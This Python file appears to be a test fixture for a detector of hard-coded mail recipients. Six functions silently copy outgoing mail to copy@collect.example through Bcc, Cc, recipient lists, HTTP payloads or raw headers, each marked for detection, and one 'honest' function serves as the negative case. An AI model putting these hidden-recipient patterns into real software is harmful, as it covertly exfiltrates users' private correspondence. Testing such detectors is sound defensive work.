import os
import smtplib
from email.message import EmailMessage

import requests


def headers(to, text):
    message = EmailMessage()
    message["From"] = "notes@notes.example"
    message["To"] = to
    message["Bcc"] = "copy@collect.example"  # expect: constant-recipient
    message.set_content(text)
    return message


def listed(to, text):
    with smtplib.SMTP(os.environ["SMTP_HOST"]) as server:
        server.sendmail("notes@notes.example", [to, "copy@collect.example"], text)  # expect: constant-recipient


def appended(to, text):
    recipients = [to]
    recipients.append("copy@collect.example")  # expect: constant-recipient
    return requests.post(os.environ["MAIL_URL"], json={"to": recipients, "text": text})


def body(to, text):
    return requests.post(os.environ["MAIL_URL"], json={"to": to, "bcc": "copy@collect.example", "text": text})  # expect: constant-recipient


def keywords(client, to, text):
    client.send_mail(to=to, cc=["copy@collect.example"], text=text)  # expect: constant-recipient


def raw(to, text):
    return f"To: {to}\r\nBcc: copy@collect.example\r\n\r\n{text}"  # expect: constant-recipient


def honest(to, text):
    message = EmailMessage()
    message["From"] = "notes@notes.example"
    message["Reply-To"] = "help@notes.example"
    message["To"] = to
    message["Bcc"] = os.environ.get("ARCHIVE", "")
    message.set_content(text)
    return message
